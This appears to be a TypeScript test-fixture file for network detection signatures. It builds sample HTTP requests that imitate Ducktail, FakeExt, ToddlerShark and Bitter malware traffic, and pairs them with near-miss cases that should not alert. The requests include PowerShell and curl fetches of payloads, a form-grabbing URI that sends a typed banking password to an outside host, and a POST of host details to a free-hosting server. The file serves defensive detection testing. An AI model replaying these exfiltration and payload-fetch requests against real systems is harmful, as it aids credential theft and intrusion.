/** Ducktail, FakeExt, ToddlerShark and Bitter: HTTP requests by the facts in reports/. */
import type { HttpRequest } from '@sigwright/traffic';
import { BROWSER, type EvidenceCase, http, OUTSIDE } from './evidence-case.ts';

const POWERSHELL = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4046';

export function ducktailRequest(change: { method?: string; uri?: string; agent?: string; referer?: boolean } = {}): HttpRequest {
  const headers: [string, string][] = [
    ['User-Agent', change.agent ?? POWERSHELL],
    ['Host', 'dailyfasterauto.info'],
  ];
  if (change.referer === true) headers.push(['Referer', 'http://dailyfasterauto.info/']);
  return { method: change.method ?? 'GET', uri: change.uri ?? '/file/ps/330d9d3b5819c6c71029767bfb8c0ae1.jpg', headers };
}

const UID = '9be3d1f0-4c2a-4b7e-9f16-0d2c8e5a7b31';

export function fakeExtRequest(change: { method?: string; uri?: string } = {}): HttpRequest {
  const uri = change.uri ?? `/grab/put?name=clave&value=Invierno24&css_id=input%23clave&uid=${UID}&url=https%3A%2F%2Fbanco.example%2Flogin`;
  return {
    method: change.method ?? 'GET',
    uri,
    headers: [
      ['Host', 'jschecks.com'],
      ['User-Agent', `${BROWSER} Edg/122.0.0.0`],
      ['Accept', '*/*'],
      ['Origin', 'https://banco.example'],
    ],
  };
}

export function toddlerSharkPost(change: { method?: string; uri?: string; host?: string; type?: string; referer?: boolean } = {}): HttpRequest {
  const headers: [string, string][] = [
    ['Host', change.host ?? 'webservice7.000webhostapp.com'],
    ['Content-Type', change.type ?? 'application/x-www-form-urlencoded'],
    ['User-Agent', 'Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)'],
    ['Connection', 'Keep-Alive'],
  ];
  if (change.referer === true) headers.push(['Referer', 'http://webservice7.000webhostapp.com/']);
  return {
    method: change.method ?? 'POST',
    uri: change.uri ?? '/microsoft/search.php',
    headers,
    body: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tSG9zdCBOYW1lOiBXUy0xNA==',
  };
}

export function bitterRequest(uri: string, change: { method?: string; agent?: string; more?: readonly [string, string] } = {}): HttpRequest {
  const headers: [string, string][] = [
    ['Host', 'worldupdate.example'],
    ['User-Agent', change.agent ?? 'curl/8.4.0'],
    ['Accept', '*/*'],
  ];
  if (change.more !== undefined) headers.push([...change.more]);
  return { method: change.method ?? 'GET', uri, headers };
}

export const BITTER_FIRST = '/mml.php?st=WS-19*accounts';
export const BITTER_SECOND = '/dxl.php?bb=WS-19*accounts';

function one(server: string, sid: number) {
  return (name: string, alerts: number, shows: string, request: HttpRequest, broken?: string): EvidenceCase => ({
    sid,
    name,
    alerts,
    shows,
    broken,
    compose: (capture) => void http(capture, server, request),
  });
}

const script = one(OUTSIDE.ducktail, 1240323);
const program = one(OUTSIDE.ducktail, 1240324);
const grab = one(OUTSIDE.fakeExt, 1240341);
const shark = one(OUTSIDE.toddlerShark, 1240348);
const bitterFirst = one(OUTSIDE.bitter, 1240349);
const bitterSecond = one(OUTSIDE.bitter, 1240350);

const GRAB_WITHOUT = (part: string): string => fakeExtRequest().uri.replace(part, `&x${part.slice(1)}`);

export const WEB_CASES: readonly EvidenceCase[] = [
  script('script', 1, 'PowerShell fetches a Ducktail script that is named as a picture', ducktailRequest()),
  script('browser', 0, 'a browser fetches the same address', ducktailRequest({ agent: BROWSER }), 'the user agent is not PowerShell'),
  script(
    'not-a-hash',
    0,
    'PowerShell fetches a picture with an ordinary name',
    ducktailRequest({ uri: '/file/ps/holiday-in-the-mountains-2023-12.jpg' }),
    'the name is not 32 hex digits',
  ),
  script(
    'other-folder',
    0,
    'PowerShell fetches the same name from another folder',
    ducktailRequest({ uri: '/file/pt/330d9d3b5819c6c71029767bfb8c0ae1.jpg' }),
    'the folder is not /file/ps/',
  ),
  script('other-method', 0, 'the same address with HEAD', ducktailRequest({ method: 'HEAD' }), 'the method is HEAD, not GET'),
  program('mainbot', 1, 'a Ducktail script fetches mainbot.exe', ducktailRequest({ uri: '/file/t/mainbot.exe' })),
  program(
    'rdp-service',
    1,
    'a Ducktail script fetches RdpService.exe, without a user agent text that is known',
    ducktailRequest({ uri: '/file/t/RdpService.exe', agent: 'svc' }),
  ),
  program(
    'other-name',
    0,
    'a program with another name from the same folder',
    ducktailRequest({ uri: '/file/t/mainboat.exe' }),
    'the file name is none of the three known ones',
  ),
  program('other-folder', 0, 'the same program one folder deeper', ducktailRequest({ uri: '/my/file/t/mainbot.exe' }), 'the URI does not begin with /file/t/'),
  program(
    'referer',
    0,
    'a browser follows a link to the same address',
    ducktailRequest({ uri: '/file/t/mainbot.exe', referer: true }),
    'there is a Referer header',
  ),
  grab('grab', 1, 'FakeExt sends a typed field to its server', fakeExtRequest()),
  grab('no-css', 0, 'the same request without css_id', fakeExtRequest({ uri: GRAB_WITHOUT('&css_id=') }), 'the parameter css_id is missing'),
  grab('no-url', 0, 'the same request without url', fakeExtRequest({ uri: GRAB_WITHOUT('&url=') }), 'the parameter url is missing'),
  grab('no-uuid', 0, 'the same request with a number as uid', fakeExtRequest({ uri: fakeExtRequest().uri.replace(UID, '48151623') }), 'uid has no UUID form'),
  grab(
    'other-path',
    0,
    'the same parameters at /grab/get',
    fakeExtRequest({ uri: fakeExtRequest().uri.replace('/grab/put', '/grab/get') }),
    'the path is not /grab/put',
  ),
  grab('other-method', 0, 'the same request as POST', fakeExtRequest({ method: 'POST' }), 'the method is POST, not GET'),
  shark('post', 1, 'ToddlerShark posts what it learned about the host', toddlerSharkPost()),
  shark('other-host', 0, 'the same form to a site elsewhere', toddlerSharkPost({ host: 'www.example.org' }), 'the host is not below 000webhostapp.com'),
  shark(
    'parent-host',
    0,
    'the same form to the hosting service itself',
    toddlerSharkPost({ host: 'my000webhostapp.com' }),
    'the host only ends in the same letters',
  ),
  shark('other-uri', 0, 'the same form to /search', toddlerSharkPost({ uri: '/search/microsoft/search' }), 'the URI does not begin with /microsoft/search'),
  shark('referer', 0, 'a visitor sends the same form from the site', toddlerSharkPost({ referer: true }), 'there is a Referer header'),
  shark('other-type', 0, 'the same text as text/plain', toddlerSharkPost({ type: 'text/plain' }), 'the content type is not that of a form'),
  shark('other-method', 0, 'the same with PUT', toddlerSharkPost({ method: 'PUT' }), 'the method is PUT, not POST'),
  bitterFirst('grab', 1, 'a scheduled task fetches /mml.php with curl; host and user stand in the URI', bitterRequest(BITTER_FIRST)),
  bitterFirst('one-header-more', 0, 'curl with one header more', bitterRequest(BITTER_FIRST, { more: ['X-Token', '1'] }), 'there is a fourth header'),
  bitterFirst('browser', 0, 'the same address by another program', bitterRequest(BITTER_FIRST, { agent: 'Wget/1.21.4' }), 'the user agent is not curl'),
  bitterFirst('other-page', 0, 'curl fetches /mmi.php', bitterRequest('/mmi.php?st=WS-19*accounts'), 'the page is not mml.php'),
  bitterFirst('other-method', 0, 'curl asks with HEAD', bitterRequest(BITTER_FIRST, { method: 'HEAD' }), 'the method is HEAD, not GET'),
  bitterSecond('grab', 1, 'curl fetches the second stage', bitterRequest(BITTER_SECOND)),
  bitterSecond('other-parameter', 0, 'curl fetches the page with another parameter', bitterRequest('/dxl.php?bc=WS-19*accounts'), 'the parameter is not bb'),
  bitterSecond('browser', 0, 'the same address by another program', bitterRequest(BITTER_SECOND, { agent: 'Wget/1.21.4' }), 'the user agent is not curl'),
  bitterSecond('other-method', 0, 'curl asks with HEAD', bitterRequest(BITTER_SECOND, { method: 'HEAD' }), 'the method is HEAD, not GET'),
];
